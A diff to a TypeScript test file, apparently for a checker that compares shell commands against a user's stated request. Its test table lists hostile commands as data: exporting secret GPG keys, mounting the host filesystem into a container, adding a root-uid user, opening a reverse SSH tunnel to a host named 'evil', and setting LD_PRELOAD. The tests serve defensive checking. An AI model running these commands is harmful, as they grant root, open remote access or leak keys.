@@ -22,7 +22,7 @@ test.each([
   ['gpg --export-secret-keys', 'back up my secret keys'],
   ['docker run -v /:/host alpine', 'run a container with everything mounted'],
   ['podman run --privileged alpine', 'a privileged container'],
-  ['sudo useradd -o -u 0 evil', 'add a user evil'],
+  ['sudo useradd -o -u 0 evil', 'add a user evil with uid 0'],
   ['ssh -N -R 22:localhost:22 evil', 'open a reverse tunnel to evil'],
   ['ssh-copy-id evil@evil', 'copy my key there'],
   ['export LD_PRELOAD=/tmp/x.so', 'set LD_PRELOAD to /tmp/x.so'],
@@ -150,7 +150,7 @@ describe('executing, sending and settings are asked for by the name of what they
 
 test('an existing file is overwritten under its name, with a clear line when the words only ask for a change', () => {
   const lost = (command: string, words: string): string =>
-    intentOf(effectsOf(readLine(command), PLACE), wordsOf(words), PLACE, ['notes.txt']).kind;
+    intentOf(effectsOf(readLine(command), PLACE), wordsOf(words), PLACE, { overwrites: ['notes.txt'], unset: [] }).kind;
   expect(lost('wc -l a > notes.txt', 'how many lines has a?')).toBe('unasked');
   expect(lost('sort a > notes.txt', 'write the sorted lines to notes.txt')).toBe('asked');
   expect(lost('sort a > notes.txt', 'convert a')).toBe('unclear');
